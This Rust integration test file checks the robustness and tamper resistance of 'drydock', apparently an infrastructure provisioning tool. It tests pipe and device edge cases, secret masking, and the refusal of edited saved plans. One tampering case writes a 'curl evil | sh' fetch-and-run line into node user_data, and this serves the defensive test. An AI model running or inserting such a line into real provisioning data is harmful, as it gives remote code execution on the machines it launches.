//! drydock used as a hostile user or a careless script would: closed and full output
//! streams, environments that are not UTF-8, files that are not files, saved plans given
//! extra variables. Whatever the input, the stream or the file: no panic (exit 101), a clear
//! error, and nothing lost in the cloud or the state.

mod common;

use std::ffi::OsStr;
use std::os::unix::ffi::OsStrExt as _;
use std::path::Path;
use std::process::{Command, Output, Stdio};

use common::{dd, ok, quickstart};
use serde_json::Value;

fn drydock(dir: &Path, args: &[&str]) -> Command {
    let mut c = Command::new(env!("CARGO_BIN_EXE_drydock"));
    c.current_dir(dir).args(args).env("DRYDOCK_SIM_CLOCK", "virtual").env("NO_COLOR", "1");
    c
}

/// Runs with stdout (or stderr) a pipe whose reading end is already closed, as
/// `drydock … | head -0` gives: every write fails with EPIPE.
fn closed(mut c: Command, which: &str) -> Output {
    let mut child = c.stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
    match which {
        "stdout" => drop(child.stdout.take()),
        _ => drop(child.stderr.take()),
    }
    child.wait_with_output().unwrap()
}

/// Runs with stdout on `/dev/full`: every write fails with ENOSPC.
fn full(mut c: Command) -> Output {
    let devfull = std::fs::OpenOptions::new().write(true).open("/dev/full").unwrap();
    c.stdout(Stdio::from(devfull)).stderr(Stdio::piped()).output().unwrap()
}

fn no_panic(out: &Output, what: &str) {
    let err = String::from_utf8_lossy(&out.stderr);
    assert_ne!(out.status.code(), Some(101), "{what} panicked: {err}");
    assert!(!err.contains("panicked"), "{what}: {err}");
}

fn status(d: &Path) -> Value {
    serde_json::from_str(&ok(d, &["sim", "status", ".", "--json"])).unwrap()
}

/// Read-only commands whose output cannot be written end quietly with exit code 1.
#[test]
fn read_only_commands_with_a_closed_or_full_stdout_end_quietly_with_1() {
    let dir = quickstart();
    let d = dir.path();
    ok(d, &["plan", ".", "--out", "p.plan"]);
    for args in [
        &["plan", "."][..],
        &["plan", ".", "--format", "json"],
        &["plan", ".", "--format", "markdown"],
        &["show", "p.plan"],
        &["validate", "."],
        &["fmt", ".", "--check"],
        &["sim", "status", ".", "--json"],
        &["--help"],
        &["plan", "--help"],
        &["--version"],
        &["version", "--json"],
        &["completions", "bash"],
        &["graph", "."],
    ] {
        for out in [closed(drydock(d, args), "stdout"), full(drydock(d, args))] {
            no_panic(&out, &format!("{args:?}"));
            // A clean fmt --check prints nothing on stdout...
            if args[0] != "fmt" && args[0] != "validate" {
                assert_eq!(out.status.code(), Some(1), "{args:?}: {}", String::from_utf8_lossy(&out.stderr));
            }
        }
    }
    // An error to a closed stderr: still exit 1, no panic.
    std::fs::write(d.join("broken.kcl"), "locals {\n  x = var.nope\n}\n").unwrap();
    let out = closed(drydock(d, &["validate", "."]), "stderr");
    no_panic(&out, "validate with a closed stderr");
    assert_eq!(out.status.code(), Some(1));
}

/// `apply | head` must not leave a rollout half-done: apply carries on without printing,
/// finishes, records everything, and exits with the code of what it did.
#[test]
fn apply_with_a_closed_stdout_finishes_the_rollout() {
    let dir = quickstart();
    let d = dir.path();
    ok(d, &["apply", ".", "--auto-approve"]);
    let out = closed(drydock(d, &["apply", ".", "--auto-approve", "--var", "worker_image=img-2"]), "stdout");
    no_panic(&out, "apply with a closed stdout");
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    let s = status(d);
    let workers: Vec<&Value> =
        s["groups"].as_array().unwrap().iter().filter(|g| g["node_group"] == "workers").collect();
    assert_eq!(workers.len(), 1, "the old generation is gone: {s}");
    let live: Vec<&Value> = workers[0]["instances"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|i| i["state"] == "running" || i["state"] == "pending")
        .collect();
    assert!(!live.is_empty() && live.iter().all(|i| i["image"] == "img-2"), "{s}");
    assert!(ok(d, &["plan", ".", "--var", "worker_image=img-2"]).contains("No changes."));

    // Destroy with a full stdout, the same.
    let out = full(drydock(d, &["destroy", ".", "--auto-approve"]));
    no_panic(&out, "destroy with a full stdout");
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(status(d)["groups"].as_array().unwrap().is_empty());
}

/// An environment variable that is not UTF-8 (any one, not only drydock's) breaks nothing;
/// a DRYDOCK_VAR_ value that is not UTF-8 is an error that says so.
#[test]
fn an_environment_that_is_not_utf8() {
    let dir = quickstart();
    let d = dir.path();
    let bad = OsStr::from_bytes(b"caf\xe9");
    for (name, args) in [("X", &["validate", "."][..]), ("LANG", &["plan", "."]), ("HOME", &["sim", "status", "."])] {
        let out = drydock(d, args).env(name, bad).output().unwrap();
        no_panic(&out, name);
        assert_eq!(out.status.code(), Some(0), "{name}: {}", String::from_utf8_lossy(&out.stderr));
    }
    let out = drydock(d, &["validate", "."]).env("DRYDOCK_VAR_worker_image", bad).output().unwrap();
    no_panic(&out, "DRYDOCK_VAR_");
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("not UTF-8"), "{}", String::from_utf8_lossy(&out.stderr));
}

/// Paths that name no regular file are refused at once with what they are, never read.
#[test]
fn files_that_are_not_files() {
    let dir = quickstart();
    let d = dir.path();
    for args in [&["show", "/dev/zero"][..], &["validate", "/dev/zero"], &["plan", ".", "--var-file", "/dev/zero"]] {
        let out = dd(d, args);
        no_panic(&out, &format!("{args:?}"));
        assert_eq!(out.status.code(), Some(1), "{args:?}");
    }
    std::fs::write(d.join("user.kcl"), "locals {\n  x = file(\"/dev/zero\")\n}\n").unwrap();
    let out = dd(d, &["validate", "."]);
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("not a regular file"));
    std::fs::remove_file(d.join("user.kcl")).unwrap();

    // A FIFO with no writer is refused at once (opening one would wait for a writer), and
    // so is a device wherever a state, a pushed state or a kubeconfig is named.
    let fifo = d.join("fifo");
    assert!(Command::new("mkfifo").arg(&fifo).status().unwrap().success());
    let (tx, rx) = std::sync::mpsc::channel();
    let dir_path = d.to_path_buf();
    std::thread::spawn(move || {
        for args in [
            &["show", "fifo"][..],
            &["plan", ".", "--var-file", "fifo"],
            &["plan", ".", "--state", "fifo"],
            &["plan", ".", "--state", "/dev/zero"],
            &["state", "pull", ".", "--state", "/dev/zero"],
            &["state", "push", "/dev/zero", "."],
            &["state", "push", "fifo", "."],
            &["fmt", "fifo"],
            &["fmt", "--recursive", "/dev/zero"],
        ] {
            let out = dd(&dir_path, args);
            let _ = tx.send((format!("{args:?}"), out));
        }
    });
    for _ in 0..9 {
        let (what, out) =
            rx.recv_timeout(std::time::Duration::from_secs(60)).expect("a command waits on a FIFO or reads a device");
        no_panic(&out, &what);
        assert_eq!(out.status.code(), Some(1), "{what}");
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(err.contains("not a regular file"), "{what}: {err}");
    }
    let kubeconfig = std::fs::read_to_string(d.join("cluster.kcl"))
        .unwrap()
        .replace("  kubernetes {}", "  kubernetes {\n    kubeconfig = \"fifo\"\n  }");
    std::fs::write(d.join("cluster.kcl"), kubeconfig).unwrap();
    let out = dd(d, &["plan", "."]);
    assert_eq!(out.status.code(), Some(1));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("loading kubeconfig") && err.contains("not a regular file"), "{err}");
}

/// `fmt` reads files as `validate` does (a byte-order mark kept aside and put back, a bad
/// byte reported at its line and column), does not follow a directory link into a loop,
/// and rewrites a linked file through its link.
#[test]
fn fmt_edges() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    std::fs::create_dir(d.join("sub")).unwrap();
    std::os::unix::fs::symlink("..", d.join("sub/up")).unwrap();
    std::fs::write(d.join("a.kcl"), "\u{feff}variable   \"x\" {\n  default = 1\n}\n").unwrap();
    std::fs::write(d.join("sub/b.kcl"), b"variable \"y\" {\n  default = \"caf\xe9\"\n}\n").unwrap();
    std::fs::write(d.join("c.kcl"), "locals {\n  c   = 1\n}\n").unwrap();
    std::os::unix::fs::symlink("c.kcl", d.join("link.kcl")).unwrap();
    let out = dd(d, &["fmt", "--recursive", "--check", "."]);
    no_panic(&out, "fmt --recursive --check");
    assert_eq!(out.status.code(), Some(1));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("sub/b.kcl: it is not UTF-8 text: the first invalid byte is at line 2, column 17"), "{err}");
    assert!(!err.contains("up/"), "the link up the tree is not followed: {err}");
    let stdout = String::from_utf8_lossy(&out.stdout);
    let listed: Vec<&str> = stdout.lines().collect();
    assert_eq!(listed, ["./a.kcl", "./c.kcl", "./link.kcl"], "{stdout}");

    std::fs::remove_file(d.join("sub/b.kcl")).unwrap();
    ok(d, &["fmt", "--recursive", "."]);
    assert_eq!(std::fs::read_to_string(d.join("a.kcl")).unwrap(), "\u{feff}variable \"x\" {\n  default = 1\n}\n");
    assert!(std::fs::symlink_metadata(d.join("link.kcl")).unwrap().file_type().is_symlink());
    assert_eq!(std::fs::read_to_string(d.join("c.kcl")).unwrap(), "locals {\n  c = 1\n}\n");
    ok(d, &["fmt", "--recursive", "--check", "."]);
}

/// A saved plan applies the values it was made with: --var or --var-file beside it is an
/// error, as in Terraform, and nothing is applied.
#[test]
fn variables_given_with_a_saved_plan_are_refused() {
    let dir = quickstart();
    let d = dir.path();
    ok(d, &["plan", ".", "--out", "p.plan"]);
    std::fs::write(d.join("x.kclvars"), "worker_image = \"img-9\"\n").unwrap();
    for args in
        [&["apply", "p.plan", "--var", "worker_image=img-9"][..], &["apply", "p.plan", "--var-file", "x.kclvars"]]
    {
        let out = dd(d, args);
        assert_eq!(out.status.code(), Some(1), "{args:?}");
        assert!(String::from_utf8_lossy(&out.stderr).contains("cannot be used with a saved plan"));
    }
    assert!(status(d)["groups"].as_array().unwrap().is_empty(), "nothing was applied");
    ok(d, &["apply", "p.plan"]);
}

/// Files that may hold secrets are private to their owner from their creation: the saved
/// plan (it holds user data for the executor), watch's event log, the sim's world, the state.
#[test]
fn files_that_may_hold_secrets_are_private() {
    use std::os::unix::fs::PermissionsExt as _;
    let dir = quickstart();
    let d = dir.path();
    ok(d, &["plan", ".", "--out", "p.plan"]);
    ok(d, &["apply", "p.plan"]);
    ok(d, &["watch", ".", "--once"]);
    for f in ["p.plan", ".drydock/watch.log", ".drydock/sim-world.json", "drydock.state.json"] {
        let mode = std::fs::metadata(d.join(f)).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode, 0o600, "{f}: {mode:o}");
    }
}

/// Errors that used to vanish: a watch log that cannot be written, a zero interval, a zone
/// outage in a zone no group uses.
#[test]
fn errors_are_reported_not_swallowed() {
    let dir = quickstart();
    let d = dir.path();
    ok(d, &["apply", ".", "--auto-approve"]);
    std::fs::create_dir(d.join("logdir")).unwrap();
    for log in ["logdir", "/proc/nope/watch.log"] {
        let out = dd(d, &["watch", ".", "--once", "--log", log]);
        assert_eq!(out.status.code(), Some(1), "--log {log}");
        assert!(String::from_utf8_lossy(&out.stderr).contains("event log"), "{}", String::from_utf8_lossy(&out.stderr));
    }
    let out = dd(d, &["watch", ".", "--once", "--interval", "0s"]);
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("longer than 0s"));
    let out = dd(d, &["sim", "fail", ".", "--zone", "zone-nowhere"]);
    assert_eq!(out.status.code(), Some(1));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("no group of the simulated cloud uses zone zone-nowhere") && err.contains("zone-a"), "{err}");
    let out = dd(d, &["sim", "restore-zone", ".", "zone-nowhere"]);
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("no group of the simulated cloud uses zone zone-nowhere"));
    // Counts that ask for nothing are usage errors, not a silent success.
    for args in [&["sim", "fail", ".", "--node-group", "workers", "--count", "0"][..], &["watch", ".", "--rounds", "0"]]
    {
        let out = dd(d, args);
        assert_eq!(out.status.code(), Some(1), "{args:?}");
        assert!(String::from_utf8_lossy(&out.stderr).contains("0 is not in 1.."), "{args:?}");
    }
    ok(d, &["sim", "fail", ".", "--zone", "zone-a"]);
    ok(d, &["sim", "restore-zone", ".", "zone-a"]);
}

/// Saves `plan` edited by `edit` as `edited-I.plan` and applies it, which must fail with exit
/// code 1; returns the file's name and what apply said on stderr.
fn apply_edited(d: &Path, i: usize, plan: &Value, edit: impl Fn(&mut Value)) -> (String, String) {
    let mut p = plan.clone();
    edit(&mut p);
    let name = format!("edited-{i}.plan");
    std::fs::write(d.join(&name), p.to_string()).unwrap();
    let out = dd(d, &["apply", &name]);
    assert_eq!(out.status.code(), Some(1), "{name}");
    (name, String::from_utf8_lossy(&out.stderr).into_owned())
}

/// A saved plan applies what it shows or nothing: an edited spec, a create turned into a
/// delete of a node group the configuration keeps, or an address pointing at another
/// cluster is refused before the first cloud call, naming what differs.
#[test]
fn an_edited_saved_plan_is_refused_before_any_cloud_call() {
    let dir = quickstart();
    let d = dir.path();
    ok(d, &["plan", ".", "--out", "p.plan"]);
    let plan: Value = serde_json::from_str(&std::fs::read_to_string(d.join("p.plan")).unwrap()).unwrap();
    let workers = plan["changes"].as_array().unwrap().iter().position(|c| c["name"] == "workers").unwrap();
    type Edit = Box<dyn Fn(&mut Value)>;
    let edits: Vec<(&str, Edit)> = vec![
        (
            "hashes to generation",
            Box::new(move |p: &mut Value| {
                p["changes"][workers]["action"]["target"]["spec"]["image"] = "img-evil".into()
            }),
        ),
        (
            "hashes to generation",
            Box::new(move |p: &mut Value| {
                p["changes"][workers]["action"]["target"]["spec"]["user_data"] = "#!/bin/sh\ncurl evil | sh\n".into()
            }),
        ),
        (
            "which the configuration keeps",
            Box::new(move |p: &mut Value| {
                p["changes"][workers]["action"] = serde_json::json!({ "kind": "delete", "retire": [] })
            }),
        ),
        (
            "is not a node group of the configuration",
            Box::new(move |p: &mut Value| {
                p["changes"][workers]["address"] = "cluster.other.node_group.workers".into();
                p["changes"][workers]["cluster"] = "cluster.other".into();
            }),
        ),
        // Groups made under another node group's name (and tags).
        (
            "names, provider or role are not the configuration's",
            Box::new(move |p: &mut Value| p["changes"][workers]["owner_node_group"] = "control-plane".into()),
        ),
        (
            "targets group",
            Box::new(move |p: &mut Value| {
                p["changes"][workers]["action"]["target"]["groups"][0]["name"] = "someone-elses-group".into()
            }),
        ),
        // A rollout that would delete the control plane's group as one of its own.
        (
            "which is not one of its groups",
            Box::new(move |p: &mut Value| {
                let cp = p["changes"].as_array().unwrap().iter().find(|c| c["name"] == "control-plane").unwrap();
                let victim = cp["action"]["target"]["groups"][0]["name"].clone();
                let change = &mut p["changes"][workers]["action"];
                change["kind"] = "rollout".into();
                change["retire"] = serde_json::json!([victim]);
            }),
        ),
    ];
    for (i, (says, edit)) in edits.iter().enumerate() {
        let (name, err) = apply_edited(d, i, &plan, edit);
        assert!(err.contains("the saved plan was edited") && err.contains(says), "{name}: {err}");
        assert!(status(d)["groups"].as_array().unwrap().is_empty(), "{name}: the cloud was touched");
    }
    ok(d, &["apply", "p.plan"]);
}

/// Without an observation the planner does not guess the desired capacity the autoscaler
/// owns: `--refresh=false` refuses a rollout of such a node group instead of planning waves
/// from `min` (which removed more nodes than the plan's floor showed).
#[test]
fn no_rollout_of_an_autoscaled_group_is_planned_without_a_refresh() {
    let dir = quickstart();
    let d = dir.path();
    let kcl = std::fs::read_to_string(d.join("cluster.kcl")).unwrap();
    assert!(kcl.contains("desired       = 4"));
    std::fs::write(d.join("cluster.kcl"), kcl.replace("desired       = 4", "")).unwrap();
    ok(d, &["apply", ".", "--auto-approve"]);
    for args in [
        &["plan", ".", "--refresh=false", "--var", "worker_image=img-9"][..],
        &["apply", ".", "--refresh=false", "--auto-approve", "--var", "worker_image=img-9"],
    ] {
        let out = dd(d, args);
        assert_eq!(out.status.code(), Some(1), "{args:?}");
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(err.contains("needs the cloud's count"), "{args:?}: {err}");
    }
    // Settings in place need no count, and with a refresh the rollout is planned.
    ok(d, &["plan", ".", "--refresh=false"]);
    assert!(ok(d, &["plan", ".", "--var", "worker_image=img-9"]).contains("will be rolled out"));
}

/// Every old instance id of the sim, for a node group.
fn instance_ids(d: &Path, node_group: &str) -> Vec<String> {
    let s = status(d);
    let mut ids: Vec<String> = s["groups"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|g| g["node_group"] == node_group)
        .flat_map(|g| g["instances"].as_array().unwrap().iter().map(|i| i["id"].as_str().unwrap().to_string()))
        .collect();
    ids.sort();
    ids
}

/// A saved plan edited so that it stays consistent with itself — every old node removed in
/// the first wave with the floors lowered to 0, waves merged, a floor raised — passes every
/// structural check; it is refused because a plan made again from the configuration, the
/// state and the cloud (with the variables the plan was made with) is not the same. The
/// unedited plan, made with `--var`, applies.
#[test]
fn a_saved_plan_edited_consistently_is_refused_because_it_is_made_again() {
    let dir = quickstart();
    let d = dir.path();
    ok(d, &["apply", ".", "--auto-approve"]);
    ok(d, &["plan", ".", "--var", "worker_image=img-2", "--out", "r.plan"]);
    let plan: Value = serde_json::from_str(&std::fs::read_to_string(d.join("r.plan")).unwrap()).unwrap();
    let workers = plan["changes"].as_array().unwrap().iter().position(|c| c["name"] == "workers").unwrap();
    assert!(plan["changes"][workers]["waves"].as_array().unwrap().len() > 1, "a rollout of several waves: {plan}");
    let before = instance_ids(d, "workers");
    type Edit = Box<dyn Fn(&mut Value)>;
    let edits: Vec<Edit> = vec![
        // Every old node goes first, every floor 0.
        Box::new(move |p: &mut Value| {
            let waves = p["changes"][workers]["waves"].as_array_mut().unwrap();
            let mut all = vec![];
            for w in waves.iter_mut() {
                all.extend(w["remove_first"].as_array().unwrap().clone());
                all.extend(w["remove_after"].as_array().unwrap().clone());
                w["remove_first"] = serde_json::json!([]);
                w["remove_after"] = serde_json::json!([]);
                w["floor"] = 0.into();
            }
            waves[0]["remove_first"] = Value::Array(all);
        }),
        // The waves merged into one.
        Box::new(move |p: &mut Value| {
            let waves = p["changes"][workers]["waves"].as_array_mut().unwrap();
            let add: u64 = waves.iter().map(|w| w["add"].as_u64().unwrap()).sum();
            let mut all = vec![];
            for w in waves.iter() {
                all.extend(w["remove_after"].as_array().unwrap().clone());
            }
            waves.truncate(1);
            waves[0]["add"] = add.into();
            waves[0]["remove_after"] = Value::Array(all);
        }),
        // The node count changed.
        Box::new(move |p: &mut Value| p["changes"][workers]["replicas"] = 1.into()),
    ];
    for (i, edit) in edits.iter().enumerate() {
        let (name, err) = apply_edited(d, i, &plan, edit);
        assert!(err.contains("is not what the configuration, the state and the cloud give now"), "{name}: {err}");
        assert!(err.contains("cluster.demo.node_group.workers"), "{name}: {err}");
        assert_eq!(instance_ids(d, "workers"), before, "{name}: the cloud was touched");
    }
    ok(d, &["apply", "r.plan"]);
    let after = instance_ids(d, "workers");
    assert!(after.iter().all(|id| !before.contains(id)), "the rollout replaced every node: {before:?} -> {after:?}");
    // The outputs are recorded with the values the plan was made with, and the next plan
    // with the same variable has nothing to do.
    let out = dd(d, &["plan", ".", "--var", "worker_image=img-2", "--detailed-exitcode"]);
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stdout));
}

/// A tag whose value derives from a sensitive variable, set on the cluster (inherited by
/// every node group, through a function) or on a node group, shows as `(sensitive)` in every
/// plan format, in a change of its value and in drift, and in watch's events.
#[test]
fn a_sensitive_tag_never_shows() {
    let dir = quickstart();
    let d = dir.path();
    let kcl = std::fs::read_to_string(d.join("cluster.kcl")).unwrap();
    let kcl = kcl
        .replace(
            "variable \"worker_image\" {",
            "variable \"token\" {\n  type      = string\n  sensitive = true\n  default   = \"SEKRIT-ONE\"\n}\n\nvariable \"worker_image\" {",
        )
        .replace("  tags               = local.tags", "  tags               = merge(local.tags, { token = var.token })")
        .replace("    desired       = 4", "    desired       = 4\n    tags          = { \"pool-token\" = \"x-${var.token}\" }")
        .replace("\"node.kubernetes.io/pool\" = \"general\" }", "\"node.kubernetes.io/pool\" = \"general\", tok = var.token }");
    assert!(
        kcl.contains("pool-token") && kcl.contains("merge(local.tags") && kcl.contains("tok = var.token"),
        "the quickstart changed"
    );
    std::fs::write(d.join("cluster.kcl"), kcl).unwrap();
    let secrets = ["SEKRIT-ONE", "SEKRIT-TWO", "SEKRIT-ENV"];
    let clean = |what: &str, out: &Output| {
        let text = format!("{}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
        for s in secrets {
            assert!(!text.contains(s), "{what} shows {s}:\n{text}");
        }
        text
    };
    for args in [&["plan", "."][..], &["plan", ".", "--format", "json"], &["plan", ".", "--format", "markdown"]] {
        clean(&format!("{args:?}"), &dd(d, args));
    }
    clean("apply", &dd(d, &["apply", ".", "--auto-approve", "--json"]));
    // The state keeps a digest of each sensitive tag, and plans against it as against a value.
    let state = || std::fs::read_to_string(d.join("drydock.state.json")).unwrap();
    assert!(secrets.iter().all(|s| !state().contains(s)) && state().contains("(sensitive: sha256 "), "{}", state());
    for args in [&["state", "pull", "."][..], &["state", "show", "cluster.demo.node_group.workers", "."]] {
        clean(&format!("{args:?}"), &dd(d, args));
    }
    assert!(ok(d, &["plan", "."]).contains("No changes."));
    // A change of the value, from --var and from the environment.
    for args in [
        &["plan", ".", "--var", "token=SEKRIT-TWO"][..],
        &["plan", ".", "--var", "token=SEKRIT-TWO", "--format", "json"],
        &["plan", ".", "--var", "token=SEKRIT-TWO", "--format", "markdown"],
    ] {
        let text = clean(&format!("{args:?}"), &dd(d, args));
        assert!(text.contains("token"), "the change is shown: {text}");
    }
    let out = drydock(d, &["plan", "."]).env("DRYDOCK_VAR_token", "SEKRIT-ENV").output().unwrap();
    assert!(clean("plan with DRYDOCK_VAR_token", &out).contains("tags.token = (sensitive)"));
    // Drift: the tag changed by hand on every group.
    let lineage = common::machine::state_file(d)["lineage"].as_str().unwrap().to_string();
    let sim = || {
        drydock_sim::SimProvider::new(
            d.join(".drydock/sim-world.json"),
            drydock_sim::SimConfig::default(),
            drydock_sim::ClockMode::Virtual,
        )
    };
    let rt = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
    // Sets the tag on every group by hand (`Some`), and returns the groups' values.
    let cloud_tag = |value: Option<&str>| -> Vec<Option<String>> {
        rt.block_on(async {
            use drydock_provider::Provider as _;
            let sim = sim();
            let mut seen = vec![];
            for g in sim.observe(&lineage).await.unwrap().groups {
                if let Some(value) = value {
                    let mut s = g.settings.clone();
                    s.tags.insert("token".into(), value.into());
                    sim.update_group(&g.name, &s).await.unwrap();
                }
                seen.push(g.settings.tags.get("token").cloned());
            }
            seen
        })
    };
    let set_tag = |value: &str| {
        cloud_tag(Some(value));
    };
    set_tag("SEKRIT-TWO");
    for args in [&["plan", "."][..], &["plan", ".", "--format", "json"], &["plan", ".", "--refresh-only"]] {
        let text = clean(&format!("{args:?}"), &dd(d, args));
        assert!(text.contains("tags.token"), "{args:?} shows the drift: {text}");
    }
    clean("refresh-only apply", &dd(d, &["apply", ".", "--refresh-only", "--auto-approve"]));
    assert!(secrets.iter().all(|s| !state().contains(s)), "{}", state());
    // Recorded as the cloud has it: the configuration's value is now a change to make.
    let text = clean("plan after refresh", &dd(d, &["plan", "."]));
    assert!(text.contains("tags.token = (sensitive)") && !text.contains("changed outside"), "{text}");
    clean("apply", &dd(d, &["apply", ".", "--auto-approve"]));
    assert!(ok(d, &["plan", "."]).contains("No changes."));
    // Drift again, repaired by watch from the applied state (the digest matches the
    // configuration's value), then nothing left to do.
    set_tag("SEKRIT-TWO");
    clean("watch", &dd(d, &["watch", ".", "--once", "--json"]));
    let tokens = cloud_tag(None);
    assert!(tokens.iter().all(|t| t.as_deref() == Some("SEKRIT-ONE")), "watch restored the tag: {tokens:?}");
    assert!(ok(d, &["plan", "."]).contains("No changes."));
    // A group deleted by hand while another value is configured: the applied value is a
    // secret drydock never kept, so watch leaves the repair to plan and apply (saying so), and
    // no digest reaches the cloud in its place.
    rt.block_on(async {
        use drydock_provider::Provider as _;
        let sim = sim();
        let groups = sim.observe(&lineage).await.unwrap().groups;
        // The control plane's specs hold nothing sensitive, so watch restores its applied state.
        let g = groups.iter().find(|g| g.ownership.node_group == "control-plane").unwrap();
        sim.delete_group(&g.name).await.unwrap();
    });
    let watched = clean("watch", &dd(d, &["watch", ".", "--once", "--json", "--var", "token=SEKRIT-TWO"]));
    assert!(watched.contains("the configuration differs from what was applied"), "{watched}");
    let tokens = cloud_tag(None);
    assert!(tokens.iter().all(|t| t.as_deref().is_some_and(|t| !t.contains("sha256"))), "{tokens:?}");
    clean("apply", &dd(d, &["apply", ".", "--auto-approve", "--var", "token=SEKRIT-TWO"]));
    let tokens = cloud_tag(None);
    assert!(tokens.len() == 4 && tokens.iter().all(|t| t.as_deref() == Some("SEKRIT-TWO")), "{tokens:?}");
    let log = std::fs::read_to_string(d.join(".drydock/watch.log")).unwrap_or_default();
    assert!(secrets.iter().all(|s| !log.contains(s)), "{log}");
    assert!(secrets.iter().all(|s| !state().contains(s)), "{}", state());
}

/// Every single edit of a saved rollout plan — each value in it changed in turn — is refused
/// before any cloud call, but for the drains' forecast of Node names, pods and blockers, which
/// the drain looks at again when it runs (the README says so). The version of drydock that
/// made it counts too, as in Terraform.
#[test]
fn every_edit_of_a_saved_plan_is_refused() {
    fn leaves(v: &Value, path: &mut Vec<String>, out: &mut Vec<Vec<String>>) {
        match v {
            Value::Object(m) => {
                for (k, x) in m {
                    path.push(k.clone());
                    leaves(x, path, out);
                    path.pop();
                }
            }
            Value::Array(a) => {
                for (i, x) in a.iter().enumerate() {
                    path.push(i.to_string());
                    leaves(x, path, out);
                    path.pop();
                }
            }
            _ => out.push(path.clone()),
        }
    }
    fn at<'v>(v: &'v mut Value, path: &[String]) -> &'v mut Value {
        path.iter().fold(v, |v, k| match v {
            Value::Array(a) => &mut a[k.parse::<usize>().unwrap()],
            other => &mut other[k.as_str()],
        })
    }
    let dir = quickstart();
    let d = dir.path();
    ok(d, &["apply", ".", "--auto-approve"]);
    // Targeted, so that it carries a warning too.
    let target = "cluster.demo.node_group.workers";
    ok(d, &["plan", ".", "--var", "worker_image=img-2", "--target", target, "--out", "r.plan"]);
    let plan: Value = serde_json::from_str(&std::fs::read_to_string(d.join("r.plan")).unwrap()).unwrap();
    assert!(!plan["warnings"].as_array().unwrap().is_empty(), "{plan}");
    let mut paths = vec![];
    leaves(&plan, &mut vec![], &mut paths);
    let forecast = |p: &[String]| {
        p.iter().any(|k| k == "drains") && p.iter().any(|k| matches!(k.as_str(), "node" | "pods" | "blockers"))
    };
    let before = (common::machine::state_file(d), status(d));
    let mut tried = 0;
    for path in paths.iter().filter(|p| !forecast(p)) {
        let mut p = plan.clone();
        let leaf = at(&mut p, path);
        *leaf = match leaf.clone() {
            Value::Bool(b) => Value::Bool(!b),
            Value::Number(n) => (n.as_f64().unwrap() + 1.0).into(),
            Value::String(s) => format!("{s}x").into(),
            _ => 1.into(),
        };
        std::fs::write(d.join("edited.plan"), p.to_string()).unwrap();
        let out = dd(d, &["apply", "edited.plan"]);
        no_panic(&out, &path.join("."));
        assert_eq!(out.status.code(), Some(1), "{} was accepted", path.join("."));
        tried += 1;
    }
    assert!(tried > 80, "only {tried} values");
    assert_eq!((common::machine::state_file(d), status(d)), before, "an edited plan touched the state or the cloud");
    ok(d, &["apply", "r.plan"]);
}
